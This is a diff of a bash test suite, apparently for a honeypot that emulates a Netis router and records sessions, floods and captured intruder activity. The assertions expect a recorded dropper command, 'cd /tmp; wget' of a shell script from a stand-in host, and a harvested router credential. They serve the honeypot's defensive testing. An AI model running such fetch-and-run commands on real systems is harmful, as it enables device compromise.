@@ -29,14 +29,6 @@ end() {
     said "$1" " stopped " || fail "$1 did not say that it stopped"
 }
 
-# ask NAME PYTHON COMMAND...: whether it holds of the JSON document d
-ask() {
-    local name=$1 check=$2
-    shift 2
-    "$release" "$@" --json --state "$TMPDIR/$name" |
-        python3 -c "import json, sys; d = json.load(sys.stdin); sys.exit(not ($check))"
-}
-
 # count NAME COUNTER: over all of the trap's workers
 count() {
     "$release" status --json --state "$TMPDIR/$1" |
@@ -108,17 +100,17 @@ clients() {
     until_true 20 is_counted clients $((6 + more)) || fail "$("$release" status --state "$TMPDIR/clients")"
     [[ $(count clients lost) == 0 && $(count clients untold) == 0 ]] || fail "some are not told of"
     end clients
-    ask clients "any(s['logged_in'] and s['commands'] == 1 and s['downloads'] == 1 and s['service'] == 'netis' and
+    holds clients "any(s['logged_in'] and s['commands'] == 1 and s['downloads'] == 1 and s['service'] == 'netis' and
         s['persona'] == 'netis-router' and s['source'] == '198.51.100.2' for s in d)" sessions ||
         fail "$("$release" sessions --state "$TMPDIR/clients")"
-    ask clients "len(d) == 1 and d[0]['name'].startswith('cd /tmp; wget http://198.51.100.7/a.sh')" top commands || fail "commands"
-    ask clients "d[0]['name'] == 'http://198.51.100.7/a.sh'" top downloads || fail "downloads are not told"
-    ask clients "d[0]['name'] == '/netcore'" top credentials || fail "log-ins are not told"
-    ask clients "{r['name']: r['count'] for r in d}['probe'] in (3, 4)" top datagrams || fail "$("$release" top datagrams --state "$TMPDIR/clients")"
+    holds clients "len(d) == 1 and d[0]['name'].startswith('cd /tmp; wget http://198.51.100.7/a.sh')" top commands || fail "commands"
+    holds clients "d[0]['name'] == 'http://198.51.100.7/a.sh'" top downloads || fail "downloads are not told"
+    holds clients "d[0]['name'] == '/netcore'" top credentials || fail "log-ins are not told"
+    holds clients "{r['name']: r['count'] for r in d}['probe'] in (3, 4)" top datagrams || fail "$("$release" top datagrams --state "$TMPDIR/clients")"
     id=$("$release" sessions --json --state "$TMPDIR/clients" | python3 -c "
 import json, sys
 print(next(s['id'] for s in json.load(sys.stdin) if s['commands']))")
-    ask clients "[e['type'] for e in d['events']] == ['open', 'datagram', 'datagram', 'login', 'datagram', 'command', 'download',
+    holds clients "[e['type'] for e in d['events']] == ['open', 'datagram', 'datagram', 'login', 'datagram', 'command', 'download',
         'file', 'run', 'status', 'close'] or [e['type'] for e in d['events'] if e['type'] == 'datagram'] == ['datagram'] * 3" \
         session "$id" || fail "$("$release" session "$id" --state "$TMPDIR/clients")"
 }
@@ -155,7 +147,7 @@ claimed() {
     begin claimed "$release" --claim 203.0.113.0/24 --yes --set trap.workers=2
     n=$(netns_in SENDER python3 "$TMPDIR/street.py" 2>"$TMPDIR/street.err") || fail "a claimed street: $(<"$TMPDIR/street.err")"
     end claimed
-    ask claimed "len({s['destination'] for s in d if s['logged_in']}) == $n and all(s['persona'] == 'netis-router' for s in d)" \
+    holds claimed "len({s['destination'] for s in d if s['logged_in']}) == $n and all(s['persona'] == 'netis-router' for s in d)" \
         sessions --limit 0 || fail "$n answered: $("$release" sessions --limit 0 --state "$TMPDIR/claimed")"
 }
 
@@ -173,7 +165,7 @@ floods() {
     echo "lost: $(count floods lost), untold: $(count floods untold), not answered for the budget: $(count floods unanswered)"
     (($(count floods unanswered) > 0 && $(count floods untold) > 0 && $(count floods answered) > 1000)) ||
         fail "it was no flood: $(tail -n 2 "$TMPDIR/floods.log")"
-    ask floods "sum(w['datagrams'] > 1000 for w in d['workers'] if w['name'] == 'trap') == 2" status || fail "one worker met them all"
+    holds floods "sum(w['datagrams'] > 1000 for w in d['workers'] if w['name'] == 'trap') == 2" status || fail "one worker met them all"
     end floods
     "$release" verify --state "$TMPDIR/floods" >/dev/null || fail "what is kept does not verify"
 }
